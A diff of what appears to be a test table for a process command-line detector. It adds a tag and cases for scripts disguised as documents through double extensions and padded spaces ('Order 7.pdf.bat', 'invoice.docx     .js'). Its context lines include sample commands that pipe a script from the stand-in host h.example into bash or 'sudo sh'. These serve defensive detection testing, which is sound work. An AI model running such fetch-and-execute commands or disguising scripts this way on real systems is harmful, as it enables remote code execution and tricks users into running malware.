@@ -20,6 +20,7 @@ REVERSE = "parent_reverse_shell"
 FETCHED = "parent_script_fetched"
 HIDDEN = "parent_hidden_encoded"
 PLACE = "parent_script_place"
+POSES = "parent_script_disguised"
 IDLE = "parent_without_work"
 TOOL = "parent_fake_tool"
 
@@ -32,6 +33,11 @@ TOOL = "parent_fake_tool"
         ("java -Xmx1g -jar C:\\Users\\Public\\a.jar", [PLACE]),
         ("java -jar C:\\ci\\agent.jar", []),
         ("java -jar C:\\src\\app\\target\\a.jar", []),
+        # a script with the name of a document
+        ('C:\\Windows\\system32\\cmd.exe /c ""C:\\lab\\Order 7.pdf.bat" "', [POSES]),
+        ("wscript.exe C:\\lab\\invoice.docx     .js", [POSES]),
+        ("cmd /c C:\\lab\\make.bat C:\\lab\\a.pdf", []),
+        ("wscript C:\\lab\\a.pdf.json.js C:\\b.txt.bak", []),
         # a script straight from the web
         ("bash -c curl -s http://h.example/i.sh | bash", [FETCHED]),
         ("sh -c 'wget -qO- https://h.example/i | sudo sh'", [FETCHED]),
